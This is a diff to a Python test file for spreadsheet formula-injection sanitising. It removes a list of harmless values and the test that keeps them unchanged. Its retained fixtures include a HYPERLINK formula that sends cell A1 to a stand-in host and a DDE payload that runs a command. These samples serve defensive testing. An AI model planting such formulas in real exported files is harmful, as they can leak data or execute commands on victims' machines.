@@ -13,7 +13,6 @@ from biasflow.results.tables import write_table
 
 LINK = '=HYPERLINK("http://example.invalid/?"&A1,"nurse")'
 FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''@x"]
-HARMLESS = ["nurse", "-", "=", "-0.5", "+1e-3", "-inf", "", "3 - 2", "'tis", "a=b", "none"]
 MAY_BEGIN_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -39,12 +38,6 @@ def test_a_formula_of_somebodys_file_stands_as_text_in_every_csv(tmp_path, text)
     with open(tmp_path / "scores.csv", newline="", encoding="utf-8") as stream:
         (row,) = csv.DictReader(stream)
     assert row["part"] == f"'{text}" and row["value"] == "-0.5"
-
-
-@pytest.mark.parametrize("text", HARMLESS)
-def test_numbers_and_other_texts_stay_as_they_are(text):
-    frame = pd.DataFrame({"x": [text]})
-    assert without_formulas(frame)["x"].tolist() == [text] == as_written(frame)["x"].tolist()
 
 
 def test_a_carriage_return_ends_no_row(tmp_path):
